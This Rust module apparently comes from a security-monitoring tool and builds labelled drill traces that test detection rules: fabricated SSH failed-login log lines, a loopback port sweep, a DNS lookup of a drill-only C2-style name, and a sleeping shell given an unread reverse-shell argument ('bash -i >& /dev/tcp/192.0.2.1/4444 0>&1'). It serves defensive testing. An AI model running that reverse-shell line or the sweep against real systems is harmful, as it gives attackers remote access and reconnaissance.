//! The traces of a drill: what each does, and how its alert is known again.
//!
//! Every trace carries the drill's label or a loopback address that only this drill uses, so that
//! its alerts can not be taken for another's, nor another's for its own.

use std::fs::File;
use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddrV4, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde::Serialize;
use watchpost_model::Timestamp;
use watchpost_model::alert::{Alert, DRILL_MARK};
use watchpost_model::query::Drill;

/// Kinds of traces.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// Twelve failed SSH logins, as lines in a log.
    FailedLogins,
    /// A TCP sweep over closed loopback ports.
    PortSweep,
    /// A process whose command line looks like a reverse shell.
    SuspiciousCommand,
    /// A lookup of a name that only drills use.
    ListedDomain,
}

impl Kind {
    /// The last part of the label that its trace bears.
    const fn mark(self) -> &'static str {
        match self {
            Self::FailedLogins => "login",
            Self::PortSweep => "sweep",
            Self::SuspiciousCommand => "command",
            Self::ListedDomain => "name",
        }
    }
}

/// One trace, ready to be made.
#[derive(Clone, Debug)]
pub struct Trace {
    /// What it is.
    pub kind: Kind,
    label: String,
    address: Ipv4Addr,
    log: PathBuf,
    begun: Timestamp,
}

/// Failed logins per drill: more than the rule's threshold.
const LOGINS: u16 = 12;

/// Ports swept: more than the rule's threshold.
const PORTS: u16 = 80;

/// Ports swept begin here: the dynamic range, where hardly anything listens.
const FIRST_PORT: u16 = 49_400;

/// The traces of a drill that begins at `now`. `log` is the file that the agent reads for drills.
#[must_use]
pub fn plan(now: Timestamp, log: &Path) -> Vec<Trace> {
    let salt = now.as_millis().to_le_bytes();
    let [a, b, ..] = salt;
    let trace = |kind: Kind, address| {
        let label = format!("{DRILL_MARK}-{:x}-{}", now.as_millis(), kind.mark());
        Trace { kind, label, address, log: log.to_path_buf(), begun: now }
    };
    // Documentation addresses (RFC 5737) in lines; on the wire the drills' part of the loopback
    // network, see `is_drill_address`.
    let loopback = Ipv4Addr::new(127, 66, a, b.max(1));
    vec![
        trace(Kind::FailedLogins, Ipv4Addr::new(198, 51, 100, a.max(1))),
        trace(Kind::PortSweep, loopback),
        trace(Kind::SuspiciousCommand, loopback),
        trace(Kind::ListedDomain, loopback),
    ]
}

/// What a trace leaves running; ends it when dropped.
#[derive(Debug)]
pub struct Running(Option<Child>);

impl Drop for Running {
    fn drop(&mut self) {
        if let Some(child) = &mut self.0 {
            // Already ended is as good.
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

impl Trace {
    /// Makes the trace.
    ///
    /// # Errors
    /// When the log can not be written, a socket not be opened, or the shell not be started.
    pub fn make(&self) -> io::Result<Running> {
        match self.kind {
            Kind::FailedLogins => self.write_failed_logins().map(|()| Running(None)),
            Kind::PortSweep => self.sweep().map(|()| Running(None)),
            Kind::SuspiciousCommand => self.run_command().map(|child| Running(Some(child))),
            Kind::ListedDomain => self.ask().map(|()| Running(None)),
        }
    }

    /// What the collector must know of it: the packets of a sweep bear an address, no label.
    #[must_use]
    pub fn drill(&self) -> Drill {
        let address = (self.kind == Kind::PortSweep).then_some(IpAddr::V4(self.address));
        Drill { label: self.label.clone(), address }
    }

    /// Whether an alert is this trace's.
    #[must_use]
    pub fn made(&self, alert: &Alert) -> bool {
        alert.drill == self.label && alert.raised >= self.begun
    }

    fn write_failed_logins(&self) -> io::Result<()> {
        let mut log = File::options().create(true).append(true).open(&self.log)?;
        let mut lines = String::new();
        for attempt in 0..LOGINS {
            lines.push_str(&format!(
                "{} {} sshd[{}]: Failed password for invalid user {} from {} port {} ssh2\n",
                self.begun,
                "localhost",
                30_000 + u32::from(attempt),
                self.label,
                self.address,
                40_000 + attempt,
            ));
        }
        log.write_all(lines.as_bytes())
    }

    /// Tries ports from an address of its own; whoever listens sees a connection that ends at once.
    fn sweep(&self) -> io::Result<()> {
        for port in FIRST_PORT..FIRST_PORT + PORTS {
            let socket =
                rustix::net::socket(rustix::net::AddressFamily::INET, rustix::net::SocketType::STREAM, None)?;
            rustix::net::bind(&socket, &SocketAddrV4::new(self.address, 0))?;
            // Refused is what we want; accepted ends here too.
            let _ = rustix::net::connect(&socket, &SocketAddrV4::new(Ipv4Addr::LOCALHOST, port));
        }
        Ok(())
    }

    /// A shell that sleeps; the suspicious part is an argument that it never reads.
    fn run_command(&self) -> io::Result<Child> {
        Command::new("sh")
            .args(["-c", "sleep 5", &self.label, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
    }

    /// One question to the loopback address, where usually nobody answers; the packet is the trace.
    fn ask(&self) -> io::Result<()> {
        let socket = UdpSocket::bind((self.address, 0))?;
        socket.set_read_timeout(Some(Duration::from_millis(1)))?;
        let question = question(&format!("{}.c2.watchpost-drill.example", self.label));
        socket.send_to(&question, (Ipv4Addr::LOCALHOST, 53)).map(|_| ())
    }
}

/// A DNS question for an address (RFC 1035 §4.1): labels are shorter than 64 bytes by making.
fn question(name: &str) -> Vec<u8> {
    let mut bytes = vec![0x57, 0x50, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).unwrap_or(0));
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.extend_from_slice(&[0, 0, 1, 0, 1]);
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;
    use watchpost_model::alert::is_drill_address;

    #[test]
    fn a_drill_has_every_kind_of_trace_and_each_its_own_label() {
        let traces = plan(Timestamp::from_millis(1_795_428_309_123), Path::new("drill.log"));
        let labels: std::collections::BTreeSet<_> = traces.iter().map(|trace| &trace.label).collect();
        assert_eq!(labels.len(), 4);
        assert!(
            traces
                .iter()
                .all(|trace| trace.address.is_loopback() || trace.address.octets()[..3] == [198, 51, 100])
        );
    }

    #[test]
    fn failed_logins_are_lines_that_a_real_server_writes() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("auth.log");
        let traces = plan(Timestamp::from_millis(1_795_428_309_123), &log);
        drop(traces[0].make().unwrap());
        let text = std::fs::read_to_string(&log).unwrap();
        assert_eq!(text.lines().count(), usize::from(LOGINS));
        assert!(text.lines().all(|line| line.contains("sshd[") && line.contains("watchpost-drill-")));
        assert!(traces.iter().skip(1).all(|trace| is_drill_address(trace.address.into())));
    }

    #[test]
    fn the_question_is_a_dns_message() {
        let bytes = question("a.bc");
        assert_eq!(bytes[12..], [1, b'a', 2, b'b', b'c', 0, 0, 1, 0, 1]);
    }
}
